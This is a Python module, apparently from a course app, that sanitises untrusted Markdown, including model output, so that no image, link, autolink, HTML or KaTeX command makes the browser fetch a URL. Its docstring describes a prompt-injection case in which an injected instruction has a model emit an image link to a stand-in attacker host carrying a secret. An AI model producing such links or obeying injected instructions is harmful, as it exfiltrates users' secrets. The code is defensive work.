"""Untrusted Markdown made safe to show: nothing in it can make the browser fetch a URL.

    st.markdown(safe_markdown(answer))                      # images become text, links show their target
    st.markdown(safe_markdown(answer, image_hosts=("docs.example.org",)))  # https images from these hosts only
    st.markdown(safe_markdown(answer, internal=reader.internal_link))  # links into the course reader stay links

Model answers, notes, reflections, plan advice, review text and imported history are untrusted: an injected
instruction can ask the model for `![x](https://evil.example/?k=<secret>)`, which a browser would fetch on every
view. Outside code, images are replaced by a text label unless their https host is allow-listed (none by default),
link targets are shown as code (a learner copies them on purpose: a click-through), bare URLs and autolinks stop
being links (a link the `internal` function maps to a place in this app stays a link, to that place only), raw
HTML tags are escaped and `$` no longer starts KaTeX (whose \\href and \\includegraphics
would load URLs). Code blocks and code spans are left exactly as they are.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from urllib.parse import urlsplit

CODE = re.compile(r"(^[ \t]*(```|~~~)[^\n]*\n[\s\S]*?(?:^[ \t]*\2[ \t]*$|\Z)|(`+)[^`\n][\s\S]*?\3)", re.M)
_LINK = re.compile(  # [text](url "title") and ![alt](url); one level of nested brackets or parentheses
    r"(?P<bang>!?)\[(?P<text>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(\s*(?P<url><[^<>\n]*>|[^()\s]*(?:\([^()\s]*\)[^()\s]*)*)"
    r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)")
_REF_DEF = re.compile(r"^([ \t]{0,3})\[([^\]\n]+)\]:", re.M)  # [ref]: url, which ![x][ref] would load
_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]{1,31}:|www\.)[^\s<>]*)>", re.I)
_BARE_URL = re.compile(r"(?<![\w`/])((?:https?|ftp|file|data|javascript)://[^\s<>`]+|www\.[^\s<>`]+)", re.I)
_HTML_TAG = re.compile(r"<(?=[A-Za-z/!?])")


Internal = Callable[[str], "str | None"]  # a link target -> the app-relative link it stands for, or None


def safe_markdown(text: str | None, image_hosts: tuple[str, ...] = (), internal: Internal | None = None) -> str:
    """The Markdown with every URL turned into inert text (allow-listed https image hosts and the links `internal`
    maps into this app excepted)."""
    if not text:
        return ""
    parts, pos = [], 0
    for m in CODE.finditer(text):
        parts += [_inert(text[pos:m.start()], image_hosts, internal), m.group(0)]
        pos = m.end()
    parts.append(_inert(text[pos:], image_hosts, internal))
    return "".join(parts)


def _inert(text: str, image_hosts: tuple[str, ...], internal: Internal | None) -> str:
    keep: list[str] = []  # finished pieces are parked here so the later passes do not touch them again

    def park(s: str) -> str:
        keep.append(s)
        return f"\x00{len(keep) - 1}\x00"

    def link(m: re.Match) -> str:
        label, url = _LINK.sub(link, m.group("text")), m.group("url").removeprefix("<").removesuffix(">")
        if m.group("bang"):
            if _allowed_image(url, image_hosts):
                return park(m.group(0))
            return park(f"\\[image not loaded: {_plain(label) or 'untitled'}\\]") + (f" ({_code(url)})" if url else "")
        if not url or url.startswith("#"):
            return label
        # rebuilt by `internal` from the parsed parameters: nothing of the model's url remains
        if internal is not None and not _BARE_URL.search(_label(label)) and (target := internal(url)):
            return park(f"[{_label(label)}]({target})")
        return label + park(f" ({_code(url)})")

    text = text.replace("\x00", "")
    text = _LINK.sub(link, text)
    text = _REF_DEF.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", text)
    text = _AUTOLINK.sub(lambda m: park(_code(m.group(1))), text)
    text = _BARE_URL.sub(lambda m: park(_code(m.group(1))), text)
    text = _HTML_TAG.sub("&lt;", text)
    text = re.sub(r"(?<!\\)\$", r"\\$", text)
    return re.sub(r"\x00(\d+)\x00", lambda m: keep[int(m.group(1))], text)


def _allowed_image(url: str, hosts: tuple[str, ...]) -> bool:
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    return parts.scheme == "https" and bool(parts.hostname) and parts.hostname in {h.lower() for h in hosts}


def _plain(label: str) -> str:
    return re.sub(r"[\[\]()<>`!]", "", label).strip()


def _label(label: str) -> str:
    """A link's text as plain, inert text (what the later passes would have made of it, done here)."""
    text = re.sub(r"\x00\d+\x00", "", _plain(label))  # a nested image's placeholder: dropped with the image
    return re.sub(r"(?<!\\)\$", r"\\$", text) or "link"


def _code(s: str) -> str:
    """An inline code span that holds s whatever backticks it contains."""
    ticks = "`" * (max((len(t) for t in re.findall(r"`+", s)), default=0) + 1)
    pad = " " if s.startswith("`") or s.endswith("`") else ""
    return f"{ticks}{pad}{s}{pad}{ticks}"
